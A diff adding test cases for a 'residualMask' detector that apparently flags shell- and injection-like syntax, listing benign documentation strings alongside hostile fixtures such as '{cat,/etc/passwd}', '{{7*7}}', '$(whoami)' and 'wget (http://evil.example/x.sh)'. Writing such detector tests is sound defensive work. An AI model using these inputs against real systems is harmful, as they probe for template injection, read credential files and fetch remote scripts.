@@ -25,6 +25,13 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     'The fix is in `src/app.ts`: we were not awaiting it',
     'option (b), ($120 vs $180), (~2x) faster',
     "back to work; who's reviewing?",
+    '* `sourceEnd` Physical parent, see `--preserve-symlinks-main` and `404 Not Found`',
+    'This API allows using `AbortSignal`s in Node.js APIs',
+    '* `value` {any} The value; returns {net.Socket} or {string}.',
+    'Node.js is built on the [V8 JavaScript engine][] and [RFC 4055](https://example.org/rfc).',
+    '## Example 1 - Basic GET Request',
+    'Since PKCS#8 defines its own format',
+    'Default values (passed in by npm) for all (not a directory) cases',
   ])('%s', (s) => {
     expect(residualMask(s)).toBe(0)
   })
@@ -67,6 +74,19 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     ['`$(whoami)`', M.BACKTICK],
     ['a`id`b', M.BACKTICK],
     ['x (timeout 5)', M.PAREN],
+    ['if (1) equ (1) echo hey', M.PAREN],
+    ['(whoami)', M.PAREN],
+    ['see `node -e x` now', M.BACKTICK],
+    ['`sqlite_master`', M.BACKTICK],
+    ['{cat,/etc/passwd}', M.BRACE],
+    ['{{7*7}}', M.BRACE],
+    ['$' + '{x}', M.BRACE],
+    ['{self.__class__}', M.BRACE],
+    ['[ -f /etc/passwd ]', M.BRACKET],
+    ['[["a"]]', M.BRACKET],
+    ['x ## not a heading', M.HASH],
+    ['`503 Service Unavailable`', M.BACKTICK],
+    ['wget (http://evil.example/x.sh)', M.SLASH],
   ] as [string, number][])('keeps %s', (s, bit) => {
     expect(residualMask(s) & bit).toBe(bit)
   })
